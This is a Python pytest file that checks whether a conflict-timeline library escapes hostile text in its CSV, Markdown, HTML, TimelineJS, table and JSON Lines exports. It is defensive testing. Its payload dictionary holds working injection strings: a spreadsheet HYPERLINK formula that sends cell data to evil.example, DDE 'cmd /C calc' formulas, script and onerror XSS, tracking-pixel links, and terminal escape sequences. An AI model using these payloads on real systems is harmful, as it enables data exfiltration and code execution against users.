"""Promise: article text stays text in every export. Nothing from a source, a summary, a sentence,
a time value or a title becomes a spreadsheet formula, HTML, a Markdown link, a split row or a
terminal escape."""

from __future__ import annotations

import csv
import datetime as dt
import html.parser
import io
import json
import re

import pytest
from schema_check import checked, validate

from conflict_timeline import export
from conflict_timeline.export.csv import FORMULA_START, neutralise
from conflict_timeline.export.html import SCRIPT
from conflict_timeline.model import (
    Event,
    EventKind,
    Granularity,
    SourceRef,
    Span,
    TemporalExpression,
    TimeSpan,
    TimexType,
)
from conflict_timeline.timeline import Timeline

PAYLOADS = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "fullwidth": "\uff1d1+1",
    "html": '<img src=x onerror="alert(1)"><script>alert(2)</script>',
    "markdown": "[click](http://evil.example) ![pixel](http://evil.example/p.png) `code` | pipe",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b2J\u202eevil",
    "rows": "one\rtwo\nthree\r\nfour",
    # found by the fuzzer: U+2028 written raw split a JSON Lines record for str.splitlines()
    "line separators": "one\u2028two\u2029three\x85four\x0bfive\x1csix",
}


def hostile_timeline(payload: str) -> Timeline:
    """One dated and one undated event whose every text field carries ``payload``."""
    sentence_text = f"{payload} Rebels seized Aleppo on Friday. {payload}"
    start = len(payload) + 1
    trigger = Span(start + 7, start + 13, "seized")
    time_at = sentence_text.index("Friday")
    when = TimeSpan(payload, dt.date(2024, 11, 29), dt.date(2024, 11, 29), None)
    expr = TemporalExpression(
        "Friday", time_at, time_at + 6, TimexType.DATE, payload, span=when, rule=payload, explanation=payload
    )
    sentence = Span(0, len(sentence_text), sentence_text)
    ref = SourceRef(payload, trigger, sentence, dt.date(2024, 12, 2))
    dated = Event(
        kind=EventKind.TERRITORY_CHANGE,
        trigger=trigger,
        sentence=sentence,
        when=when,
        time_source=expr,
        actors=(payload,),
        places=(payload,),
        summary=payload,
        sources=(ref,),
        explanation=payload,
    )
    undated = Event(
        kind=EventKind.BATTLE,
        trigger=trigger,
        sentence=sentence,
        when=None,
        time_source=None,
        summary=payload,
        sources=(ref,),
    )
    return Timeline(events=(dated,), undated=(undated,))


ids = list(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=ids)
def test_csv_has_no_formula_and_no_split_row(payload: str) -> None:
    tl = hostile_timeline(payload)
    rows = list(csv.reader(io.StringIO(export.to_csv(tl), newline="")))
    assert len(rows) == 3 and all(len(r) == len(rows[0]) for r in rows)
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in FORMULA_START
    summary = rows[1][rows[0].index("summary")]
    assert summary == neutralise(payload)  # the text itself is kept, behind its quote
    # (csv.reader, like most readers, ends a row at an unquoted bare CR: three rows means none was)


@pytest.mark.parametrize(
    "cell, written",
    [
        ("=1+1", "'=1+1"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\t", "'\t"),
        ("Rebels seized Aleppo", "Rebels seized Aleppo"),  # near-misses: left alone
        ("a=b", "a=b"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_neutralise(cell: str, written: str) -> None:
    assert neutralise(cell) == written


def test_csv_numbers_and_dates_keep_their_form() -> None:
    # near-miss: a count or a date is never a formula and is never quoted away
    from export_samples import sample_timeline

    rows = list(csv.DictReader(io.StringIO(export.to_csv(sample_timeline()))))
    assert any(r["fatalities"] == "11" for r in rows)
    assert all(r["start"][:1].isdigit() or r["start"] == "" for r in rows)


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += [name for name, _ in attrs]


def _parse(page: str) -> _Tags:
    p = _Tags()
    p.feed(page)
    return p


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=ids)
def test_markdown_is_inert(payload: str) -> None:
    md = export.to_markdown(hostile_timeline(payload), title=payload)
    assert "<" not in md and "](" not in md.replace("\\](", "")
    assert "\x1b" not in md and "\x07" not in md and "\u202e" not in md
    rows = [line for line in md.splitlines() if line.startswith("| ")]
    assert len(rows) == 4  # two headers, two events: nothing split a row
    assert all(len(re.findall(r"(?<!\\)\|", line)) == 8 for line in rows)  # seven cells each


def test_markdown_keeps_the_words() -> None:
    md = export.to_markdown(hostile_timeline("Fish & chips <b>"), title="T")
    assert "Fish &amp; chips &lt;b&gt;" in md


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=ids)
def test_html_page_and_notebook_views_escape_everything(payload: str) -> None:
    tl = hostile_timeline(payload)
    page = tl.to_html(title=payload)
    # the page's one script is the library's own (the only one its policy lets run), after all the text
    assert page.count("<script>") == 1 and page.endswith(f"<script>{SCRIPT}</script></body></html>\n")
    for view in [
        page.replace(f"<script>{SCRIPT}</script>", ""),
        tl._repr_html_(),
        *(ev._repr_html_() for ev in tl.all_events),
    ]:
        parsed = _parse(view)
        assert "script" not in parsed.tags and "img" not in parsed.tags
        assert "onerror" not in parsed.attrs


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=ids)
def test_timelinejs_escapes_every_text_field(payload: str) -> None:
    doc = export.to_timelinejs(hostile_timeline(payload), title=payload)
    [slide] = doc["events"]
    for text in (slide["display_date"], slide["text"]["headline"], slide["group"], doc["title"]["text"]["headline"]):
        assert "<" not in text and ">" not in text
    body = _parse(slide["text"]["text"])
    assert set(body.tags) <= {"p", "mark", "strong", "small"} and body.attrs == []
    json.dumps(doc)


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=ids)
def test_timelinejs_of_several_articles_escapes_the_article_names_too(payload: str) -> None:
    tl = hostile_timeline(payload)
    doc = export.to_timelinejs_articles([(payload, tl), (payload, tl)], title=payload)
    assert len(doc["events"]) == 2
    for slide in doc["events"]:
        for text in (slide["display_date"], slide["text"]["headline"], slide["group"]):
            assert "<" not in text and ">" not in text
        body = _parse(slide["text"]["text"])
        assert set(body.tags) <= {"p", "mark", "strong", "small"} and body.attrs == []
    assert doc["events"][0]["group"] != doc["events"][1]["group"]  # two articles, two rows


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=ids)
def test_table_output_has_no_control_characters(payload: str) -> None:
    table = export.to_table(hostile_timeline(payload), heading=payload)
    assert not any((c < " " and c != "\n") or "\x7f" <= c <= "\x9f" or "\u202a" <= c <= "\u202e" for c in table)
    assert table.count("\n") == 4  # heading, column heads, two events: one line each


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=ids)
def test_json_lines_keep_one_record_per_line(payload: str) -> None:
    tl = hostile_timeline(payload)
    for out in (export.to_jsonl(tl),):
        lines = out.splitlines()  # the strictest splitter: every Unicode line boundary
        assert len(lines) == 2 and len(validate("jsonlEvent", out)) == 2
        assert [json.loads(line)["summary"] for line in lines] == [payload, payload]


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=ids)
def test_json_and_timeml_round_trip_the_text_untouched(payload: str) -> None:
    # the interchange formats keep the text exactly: escaping belongs to the formats that render
    tl = hostile_timeline(payload)
    assert Timeline.from_json(checked("timeline", tl.to_json())) == tl
    from conflict_timeline.timeml import read_timeml

    doc = read_timeml(tl.to_timeml())
    assert [e.text for e in doc.events] == ["seized"]  # both events share the trigger: one EVENT tag
    if not any(c < " " and c not in "\t\n\r" for c in payload):  # characters XML 1.0 can carry
        assert doc.text == tl.events[0].sentence.text


def test_granularity_words_are_not_payloads() -> None:
    # near-miss: a normal span keeps its plain label everywhere
    when = TimeSpan("2024-W48", dt.date(2024, 11, 25), dt.date(2024, 12, 1), Granularity.WEEK)
    assert when.label == "week of 25 Nov 2024"
